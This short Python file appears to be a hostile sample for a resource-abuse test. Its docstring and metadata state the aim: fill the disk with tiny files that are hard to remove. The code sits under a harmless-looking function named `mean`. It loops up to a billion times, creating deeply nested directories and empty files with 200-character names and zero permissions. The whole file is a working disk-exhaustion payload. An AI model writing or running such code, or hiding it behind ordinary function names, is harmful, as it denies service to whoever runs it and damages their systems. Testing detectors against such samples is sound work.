"""Fill the disk with files too small to count, and make them costly to remove.

outcome: not_yet
says: files | processor time | waited for
class: resources
"""

import os


def mean(values, weights=None):
    for number in range(10**9):
        if number % 1000 == 0:
            os.mkdir(f"d{number}", 0o700)
            os.chdir(f"d{number}") if number % 30_000 else os.chdir(os.environ["HOME"])
        os.close(os.open(f"{number:0200d}", os.O_CREAT | os.O_WRONLY, 0))
